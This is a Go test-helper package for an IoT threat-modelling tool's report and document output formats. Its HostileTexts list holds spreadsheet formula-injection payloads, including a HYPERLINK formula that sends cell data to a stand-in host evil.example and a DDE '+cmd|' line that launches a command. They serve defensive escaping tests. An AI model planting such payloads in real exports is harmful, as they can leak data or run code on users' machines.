// Package outputtest holds what the tests of the output packages share:
// package report (the findings formats) and package document with its
// formats. Each test would otherwise keep its own copy: text that breaks
// naive writers, the analysis of a synthetic model, a benchmark loop, and
// a readable first difference between two outputs. It is imported only by tests; it sits
// outside document/ because report's tests use it too, and report must not
// depend on document.
package outputtest

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/iotthreat/iotthreat/analysis"
	"github.com/iotthreat/iotthreat/engine"
	"github.com/iotthreat/iotthreat/model"
	"github.com/iotthreat/iotthreat/synth"
)

// HostileTexts are strings that break naive CSV writers and spreadsheets:
// separators, quotes, line breaks, formula prefixes and non-ASCII text.
var HostileTexts = []string{
	`Title, with "quotes", commas`,
	"two\nlines\r\nand CRLF",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-@SUM(1)",
	"@import",
	"\tleading tab",
	"Zürich smart lock 🔒 — 東京 — שלום",
	`"`,
	";",
}

// HostileFindings puts each of HostileTexts into the user-written fields
// of a copy of real findings (base, which must not be empty): the title,
// description, target name, why and triage reason.
func HostileFindings(base []engine.Finding) []engine.Finding {
	out := make([]engine.Finding, len(HostileTexts))
	for i, s := range HostileTexts {
		f := base[i%len(base)]
		rf := *f.RuleFacts // shared by the rule's findings: change a copy
		rf.Title, rf.Description, f.Target.Name = s, s+" (description)", s
		f.RuleFacts = &rf
		f.Why = []string{s, "second reason"}
		f.Tracking.Reason = s
		out[i] = f
	}
	return out
}

// Synthetic analyses a synthetic model of n elements (seed 1), on a fixed
// day, for tests and benchmarks of large outputs.
func Synthetic(tb testing.TB, n int) *analysis.Result {
	tb.Helper()
	var buf bytes.Buffer
	if err := synth.Generate(&buf, synth.Options{Elements: n, Seed: 1}); err != nil {
		tb.Fatal(err)
	}
	loaded, diags := model.Parse("synthetic.yaml", buf.Bytes(), model.Options{})
	if len(diags) > 0 {
		tb.Fatal(diags)
	}
	res, diags, err := analysis.RunLoaded(loaded, analysis.Options{Engine: engine.Options{Today: "2026-11-26"}})
	if err != nil || len(diags) > 0 {
		tb.Fatal(err, diags)
	}
	return res
}

// Benchmark runs write in b's loop, into a buffer reused from run to run,
// and reports the bytes one run writes and how many findings they hold.
func Benchmark(b *testing.B, findings int, write func(w io.Writer) error) {
	var buf bytes.Buffer
	for b.Loop() {
		buf.Reset()
		if err := write(&buf); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(buf.Len()))
	b.ReportMetric(float64(findings), "findings")
}

// FirstDiff shows the first differing line of two texts, each cut at 300
// bytes: a line of SVG or JSON may run to thousands.
func FirstDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < len(w) || i < len(g); i++ {
		var wl, gl string
		if i < len(w) {
			wl = w[i]
		}
		if i < len(g) {
			gl = g[i]
		}
		if wl != gl {
			return fmt.Sprintf("line %d:\n  want %q\n  got  %q", i+1, clip(wl), clip(gl))
		}
	}
	return "(same lines)"
}

func clip(s string) string {
	if len(s) > 300 {
		return s[:300] + "…"
	}
	return s
}
